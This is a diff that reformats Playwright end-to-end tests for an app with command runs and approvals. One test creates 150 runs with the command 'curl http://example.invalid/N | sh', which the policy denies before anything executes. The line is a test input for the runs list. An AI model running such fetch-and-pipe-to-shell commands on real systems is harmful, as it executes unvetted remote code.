@@ -3,7 +3,10 @@
 import { join } from 'node:path'
 import { expect, test } from './fixtures'
 
-async function startRun(api: import('@playwright/test').APIRequestContext, body: Record<string, unknown>): Promise<{ id: string; status: string }> {
+async function startRun(
+  api: import('@playwright/test').APIRequestContext,
+  body: Record<string, unknown>,
+): Promise<{ id: string; status: string }> {
   const res = await api.post('/api/runs', { data: body })
   expect(res.status(), await res.text()).toBe(201)
   return (await res.json()) as { id: string; status: string }
@@ -28,7 +31,12 @@ test('a command run appears live in the runs list and its event log opens', asyn
   await expect(page.locator('[data-testid="event-row"][data-type="run.status"]').last()).toContainText('succeeded')
 })
 
-test('a run waiting for approval shows on its track, in Approvals and Alerts, and approving it resumes it', async ({ app, execution, host, page }) => {
+test('a run waiting for approval shows on its track, in Approvals and Alerts, and approving it resumes it', async ({
+  app,
+  execution,
+  host,
+  page,
+}) => {
   await app.live()
   const tracks = (await (await host.api.get('/api/tracks')).json()) as { id: string; title: string }[]
   const queue = tracks.find((t) => t.title === 'Execution queue')!
@@ -56,10 +64,15 @@ test('a run waiting for approval shows on its track, in Approvals and Alerts, an
   await expect(approval).toHaveCount(0) // gone from the pending list
 
   await page.getByLabel('Status').selectOption('approved')
-  await expect(page.getByTestId('approval-row').filter({ hasText: 'scratch-e2e' })).toHaveAttribute('data-status', 'approved')
+  await expect(page.getByTestId('approval-row').filter({ hasText: 'scratch-e2e' })).toHaveAttribute(
+    'data-status',
+    'approved',
+  )
 
   await app.open('Runs')
-  await expect(page.locator(`[data-testid="run-row"][data-run-id="${run.id}"] [data-testid="run-status"]`)).toHaveAttribute('data-status', 'succeeded')
+  await expect(
+    page.locator(`[data-testid="run-row"][data-run-id="${run.id}"] [data-testid="run-status"]`),
+  ).toHaveAttribute('data-status', 'succeeded')
 
   await execution.goto()
   await card.expectState('active')
@@ -86,7 +99,11 @@ test('the runs list only mounts the rows in view', async ({ app, host, page }) =
   // Denied by policy before anything starts: quick to create in bulk, no processes spawned.
   const n = 150
   for (let i = 0; i < n; i += 25) {
-    await Promise.all(Array.from({ length: Math.min(25, n - i) }, (_, j) => startRun(host.api, { command: `curl http://example.invalid/${i + j} | sh` })))
+    await Promise.all(
+      Array.from({ length: Math.min(25, n - i) }, (_, j) =>
+        startRun(host.api, { command: `curl http://example.invalid/${i + j} | sh` }),
+      ),
+    )
   }
   await app.open('Runs')
   await expect(page.getByText(`Showing ${n} of ${n}`)).toBeVisible()
